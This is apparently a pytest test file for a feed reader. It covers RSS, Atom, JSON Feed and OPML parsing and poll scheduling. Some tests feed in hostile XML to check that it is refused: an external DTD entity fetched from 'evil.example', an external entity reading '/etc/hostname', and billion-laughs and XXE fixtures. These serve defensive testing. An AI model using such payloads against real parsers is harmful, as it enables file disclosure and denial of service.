"""Feed, OPML and feed-list parsing over files in tests/resources/feeds, and poll scheduling."""

from __future__ import annotations

import datetime as dt
import json
import time

import pytest

from schemas.records import FeedItem
from tests.helpers import RESOURCES
from transforms.core.feed_sources import parse_opml, read_feed_list
from transforms.core.feeds import FeedError, parse_feed, refusing_hostile_input
from transforms.core.http import Fetcher
from transforms.core.http_policy import FetchPolicy
from transforms.core.markup import content_text, field_text, html_to_text
from transforms.core.schedule import next_poll_interval

FEEDS = RESOURCES / "feeds"
FEED_URL = "https://news.example.org/rss.xml"
NOW = dt.datetime(2026, 11, 22, 12, 0, tzinfo=dt.timezone.utc)

# The feed_server fixture (a plugin, so that no import shadows the fixture argument).


def read(name: str) -> bytes:
    return (FEEDS / name).read_bytes()


def test_rss2_items():
    feed = parse_feed(read("rss2.xml"), FEED_URL)
    assert (feed.title, feed.ttl_seconds, feed.bozo, feed.bozo_reason) == (
        "Harbour Town Gazette",
        3600,
        False,
        None,
    )
    first, second, third = feed.items
    assert first == FeedItem(
        feed_url=FEED_URL,
        link="https://news.example.org/2026/11/ferry-timetable",
        guid="gazette-10231",
        title="Council approves new ferry timetable",
        author="Maria Lind",
        published="2026-11-20T07:30:00+00:00",
        summary='The council voted 7 to 2 for more ferries. Service starts in "spring".',
        content="<p>The council voted <b>7 to 2</b> on Thursday to add four daily crossings.</p>"
        "<p>Service starts in spring.</p>",
        categories=("Transport", "Local politics"),
        authors=("Maria Lind",),
    )
    # A relative link is resolved against the feed URL; "email (Name)" gives the name.
    assert (second.link, second.author, second.content) == (
        "https://news.example.org/2026/11/storm-warning",
        "Weather Desk",
        None,
    )
    assert second.published == "2026-11-19T17:05:00+00:00"
    # No <link>: a permalink guid stands in; no title or date is fine.
    assert (third.link, third.title, third.published) == (
        "https://news.example.org/2026/11/market-reopens",
        None,
        None,
    )


def test_atom_items():
    feed = parse_feed(read("atom.xml"), "https://science.example.net/atom.xml")
    assert feed.title == "Science Desk" and feed.ttl_seconds is None
    moons, glacier = feed.items
    assert moons.link == "https://science.example.net/articles/new-moons"
    assert moons.title == "Telescope finds two new moons"
    assert moons.published == "2026-11-21T07:15:00+00:00"
    assert moons.summary == "Two small moons were spotted around Neptune."
    assert moons.content.startswith("<p>Two small moons, each under 20 km")
    assert (moons.author, moons.categories, moons.guid) == (
        "Ada Okafor",
        ("astronomy",),
        "tag:science.example.net,2026:moons",
    )
    # No <published>: <updated> is the date.
    assert glacier.published == "2026-11-20T12:00:00+00:00" and glacier.content is None


def test_json_feed_items():
    feed = parse_feed(read("feed.json"), "https://tech.example.com/feed.json")
    plant, note = feed.items
    assert (plant.link, plant.guid, plant.author, plant.categories) == (
        "https://tech.example.com/briefs/881",
        "tb-881",
        "Sam Reyes",
        ("industry", "jobs"),
    )
    assert plant.published == "2026-11-21T12:00:00+00:00"
    assert (note.title, note.content, note.published) == (
        None,
        "Short note without a title.",
        "2026-11-20T23:10:00+00:00",
    )


def test_a_json_feed_date_without_a_utc_time_is_no_date():
    # "9999-12-31T23:00:00-05:00" lies past the calendar's end in UTC: it used to raise an
    # OverflowError out of the poll and abort the run.
    items = [
        {"id": "a", "url": "https://ex.org/a", "title": "A", "date_published": "9999-12-31T23:00:00-05:00"},
        {"id": "b", "url": "https://ex.org/b", "title": "B", "date_published": "2026-11-20T07:30:00+01:00"},
    ]
    data = json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": "T", "items": items}).encode()
    first, second = parse_feed(data, "https://ex.org/feed.json").items
    assert first.published is None and second.published == "2026-11-20T06:30:00+00:00"


@pytest.mark.parametrize(
    ("authors", "expected"), [(5, ()), ({"name": "Jane Doe"}, ("Jane Doe",)), ([{"name": "A"}, 5], ("A",))]
)
def test_a_json_feed_authors_field_of_another_shape_keeps_its_item(authors, expected):
    # "authors": 5 made the reader raise a TypeError, which aborted the whole run.
    item = {"id": "a", "url": "https://ex.org/a", "title": "A", "authors": authors}
    data = json.dumps({"version": "https://jsonfeed.org/version/1.1", "items": [item]}).encode()
    (parsed,) = parse_feed(data, "https://ex.org/feed.json").items
    assert parsed.authors == expected


def test_a_reader_error_is_a_parse_error_reject_not_an_exception():
    # The feed, sitemap and OPML readers raise only FeedError: an error of our own reading code on
    # a document nobody foresaw is a reject with the error named, and the poll goes on.
    @refusing_hostile_input
    def first_title(data: bytes) -> str:
        return json.loads(data)["items"][0]["title"]

    with pytest.raises(FeedError) as error:
        first_title(b'{"items": []}')
    assert error.value.reason == "parse_error" and error.value.detail == "IndexError: list index out of range"
    with pytest.raises(FeedError) as error:
        parse_feed(b"", "https://ex.org/feed.xml")
    assert error.value.reason == "empty"


def test_bozo_feed_still_yields_what_parses():
    feed = parse_feed(read("bozo.xml"), "https://sloppy.example.com/rss")
    assert feed.bozo and "SAXParseException" in feed.bozo_reason
    (item,) = feed.items
    assert item.title == "Prices rise at the fish & chips shop"
    # &nbsp; is undefined in XML; the loose parser keeps it, and plain text turns it into a space.
    assert item.summary == "Up by 10 percent."


def test_charset_from_http_header_is_used():
    text = (
        "<?xml version='1.0'?><rss version='2.0'><channel><item><title>Café déjà vu</title></item></channel>"
    )
    text += "</rss>"
    feed = parse_feed(text.encode("cp1252"), FEED_URL, encoding="windows-1252")
    assert feed.items[0].title == "Café déjà vu"


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        ("malformed.xml", "malformed_xml"),
        ("empty_channel.xml", "no_entries"),
        ("article.html", "not_a_feed"),
        ("billion_laughs.xml", "unsafe_dtd"),
        ("xxe.xml", "unsafe_dtd"),
    ],
)
def test_documents_without_items_raise(name, reason):
    started = time.perf_counter()
    with pytest.raises(FeedError) as error:
        parse_feed(read(name), FEED_URL)
    assert error.value.reason == reason
    assert isinstance(error.value, ValueError)
    assert time.perf_counter() - started < 1.0


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"", "empty"),
        (b"  \n", "empty"),
        (b"/etc/hostname", "not_a_feed"),
        (b"just some text", "not_a_feed"),
        (b'{"name": "not a feed"}', "not_a_feed"),
        (b"{broken json", "not_a_feed"),
        (
            b'<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>x</title></feed>',
            "no_entries",
        ),
        (
            b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'
            b"<rss/>",
            "unsafe_dtd",
        ),
    ],
)
def test_odd_inputs_raise(data, reason):
    with pytest.raises(FeedError) as error:
        parse_feed(data, FEED_URL)
    assert error.value.reason == reason


def test_html_inside_cdata_is_not_mistaken_for_a_dtd():
    data = (
        b'<?xml version="1.0"?><rss version="2.0"><channel><item><title>Page</title>'
        b"<description><![CDATA[<!DOCTYPE html [<!ENTITY a '&b;'>]><p>hi</p>]]></description>"
        b"</item></channel></rss>"
    )
    assert parse_feed(data, FEED_URL).items[0].title == "Page"


def test_harmless_entity_declarations_are_allowed():
    data = (
        b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY site "Harbour Town">]>'
        b'<rss version="2.0"><channel><item><title>News from &site;</title></item></channel></rss>'
    )
    assert parse_feed(data, FEED_URL).items[0].title == "News from Harbour Town"


def test_field_and_content_text_read_markup_only_where_there_is_some():
    assert field_text("It&#8217;s <i>our</i>\n turn") == "It’s our turn"
    assert field_text("AT&T says 3 < 4") == "AT&T says 3 < 4"  # no tag, no entity: plain text as is
    assert field_text("  ") is None and field_text(None) is None
    assert content_text("Tom &amp; Jerry") == "Tom & Jerry"  # entities alone are markup too
    assert content_text("<p>One.</p><p>Two &quot;quoted&quot;.</p>") == 'One.\n\nTwo "quoted".'


def test_html_to_text():
    assert html_to_text("<p>One</p><p>Two &amp; <b>th</b>ree</p><script>x()</script>") == "One Two & three"
    assert html_to_text("<br/>") is None and html_to_text(None) is None


def test_opml_nested_outlines_in_order_without_duplicates():
    assert parse_opml(read("subscriptions.opml")) == [
        "https://news.example.org/rss.xml",
        "https://valley.example.com/feed?format=rss&lang=en",
        "https://science.example.net/atom.xml",
    ]


def test_opml_entity_bomb_is_refused_quickly():
    laughs = read("billion_laughs.xml").split(b"<rss")[0]
    data = laughs.replace(b"DOCTYPE rss", b"DOCTYPE opml") + (
        b'<opml version="2.0"><body><outline text="&lol9;" xmlUrl="https://a.example/&lol9;"/></body></opml>'
    )
    started = time.perf_counter()
    with pytest.raises(FeedError) as error:
        parse_opml(data)
    assert error.value.reason == "unsafe_dtd" and time.perf_counter() - started < 1.0


def test_opml_external_entities_are_not_loaded():
    # An external entity in text content: refused before lxml sees it.
    data = (
        b'<?xml version="1.0"?><!DOCTYPE opml [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
        b'<opml version="2.0"><head><title>&x;</title></head><body><outline xmlUrl="https://b.example/feed"/>'
        b"</body></opml>"
    )
    with pytest.raises(FeedError) as error:
        parse_opml(data)
    assert error.value.reason == "unsafe_dtd"


@pytest.mark.parametrize(
    ("data", "reason"),
    [(b"<opml><body><outline", "malformed_xml"), (read("rss2.xml"), "not_opml"), (b"", "malformed_xml")],
)
def test_opml_errors(data, reason):
    with pytest.raises(FeedError) as error:
        parse_opml(data)
    assert error.value.reason == reason


def test_read_feed_list():
    text = """
    # news
    https://news.example.org/rss.xml
    https://science.example.net/atom.xml   # science desk

    https://news.example.org/rss.xml
    https://example.com/feed#main
    """
    assert read_feed_list(text) == [
        "https://news.example.org/rss.xml",
        "https://science.example.net/atom.xml",
        "https://example.com/feed#main",
    ]
    assert read_feed_list("") == []


def hours_ago(*hours: float) -> list[dt.datetime]:
    return [NOW - dt.timedelta(hours=h) for h in hours]


@pytest.mark.parametrize(
    ("times", "kwargs", "expected"),
    [
        # A quiet feed (nothing this week) waits the maximum.
        ([], {}, 86_400.0),
        (hours_ago(24 * 8, 24 * 30), {}, 86_400.0),
        # 7 entries a week: one a day.
        (hours_ago(*range(1, 8)), {}, 86_400.0),
        # 14 a week: every 12 hours.
        (hours_ago(*range(1, 15)), {}, 43_200.0),
        # 100 a week: a week / 100.
        (hours_ago(*[h * 1.5 for h in range(100)]), {}, 6_048.0),
        # Thousands a week: never under the minimum.
        (hours_ago(*[h / 20 for h in range(3000)]), {}, 300.0),
        (hours_ago(*range(1, 15)), {"minimum": 60, "maximum": 3_600}, 3_600.0),
        # The feed's ttl and Retry-After win when longer.
        (hours_ago(*[h / 20 for h in range(3000)]), {"ttl_seconds": 3_600}, 3_600.0),
        (hours_ago(*range(1, 15)), {"retry_after": 100_000}, 100_000.0),
        (hours_ago(*range(1, 15)), {"ttl_seconds": 60, "retry_after": 30}, 43_200.0),
    ],
)
def test_next_poll_interval(times, kwargs, expected):
    assert next_poll_interval(times, NOW, **kwargs) == pytest.approx(expected)


def test_next_poll_interval_takes_naive_times_as_utc():
    naive = [t.replace(tzinfo=None) for t in hours_ago(*range(1, 15))]
    assert next_poll_interval(naive, NOW.replace(tzinfo=None)) == pytest.approx(43_200.0)
    assert next_poll_interval(naive, NOW) == pytest.approx(43_200.0)


def test_the_next_poll_counts_from_the_poll_not_from_the_commit(tmp_path):
    import json

    from schemas.layout import LakeLayout
    from transforms.lake.cursors import fold_polls, load_feed_cursors

    layout = LakeLayout.of(str(tmp_path / "lake"), str(tmp_path / "state"))
    polled = NOW - dt.timedelta(minutes=3)
    (tmp_path / "state" / "polls").mkdir(parents=True)
    poll = {"feed_url": FEED_URL, "status": "fetched", "polled_at": polled.isoformat(), "item_keys": ["k1"]}
    (tmp_path / "state" / "polls" / "r1.json").write_text(json.dumps([poll]))
    fold_polls(layout, "r1", (300.0, 300.0), NOW)
    cursor = load_feed_cursors(layout)[FEED_URL]
    assert cursor.seen == ("k1",) and not (tmp_path / "state" / "polls" / "r1.json").exists()
    assert dt.datetime.fromisoformat(cursor.next_poll_at) == polled + dt.timedelta(seconds=300)
    assert cursor.due(polled + dt.timedelta(seconds=300))
    assert not cursor.due(polled + dt.timedelta(seconds=200))


def test_a_zero_interval_feed_is_due_within_the_same_second():
    from transforms.core.schedule import FeedCursor

    polled = NOW.replace(microsecond=700_000)
    cursor = FeedCursor(interval=0.0, last_status="fetched", next_poll_at=polled.isoformat())
    assert cursor.due(polled + dt.timedelta(milliseconds=1))


def test_poll_cycle_against_the_server(feed_server):
    """OPML -> feeds -> items -> next poll, all over HTTP from the local server."""
    rss_url = feed_server.route("/rss.xml", read("rss2.xml"), content_type="application/rss+xml")
    atom_url = feed_server.route("/atom.xml", read("atom.xml"), content_type="application/atom+xml")
    html_url = feed_server.route("/html-as-feed", read("article.html"), content_type="application/xml")
    opml = f'<opml version="2.0"><body><outline xmlUrl="{rss_url}"/><outline xmlUrl="{atom_url}"/>'
    opml += f'<outline xmlUrl="{html_url}"/></body></opml>'
    feed_server.route("/subscriptions.opml", opml.encode(), content_type="text/x-opml")
    policy = FetchPolicy(allowed_hosts=("127.0.0.1",), min_host_interval=0.0, read_timeout=2.0)
    with Fetcher(policy, sleep=lambda _seconds: None) as fetcher:
        listing = fetcher.fetch(feed_server.url("/subscriptions.opml"), kind="feed")
        assert listing.ok, listing
        urls = parse_opml(listing.content)
        assert urls == [rss_url, atom_url, html_url]
        results = [fetcher.fetch(url, kind="feed") for url in urls]
    assert all(result.ok for result in results)
    rss = parse_feed(results[0].content, results[0].final_url, encoding=results[0].encoding)
    atom = parse_feed(results[1].content, results[1].final_url)
    assert [item.link for item in rss.items][:2] == [
        "https://news.example.org/2026/11/ferry-timetable",
        f"{feed_server.base_url}/2026/11/storm-warning",
    ]
    assert len(atom.items) == 2
    with pytest.raises(FeedError) as error:
        parse_feed(results[2].content, html_url)
    assert error.value.reason == "not_a_feed"
    published = [dt.datetime.fromisoformat(i.published) for i in rss.items + atom.items if i.published]
    interval = next_poll_interval(published, NOW, ttl_seconds=rss.ttl_seconds)
    # Four entries this week: a week / 4 is longer than a day, so the maximum.
    assert interval == 86_400.0
    # robots.txt was asked for once (a 404 here: everything allowed).
    assert feed_server.count("/robots.txt") == 1
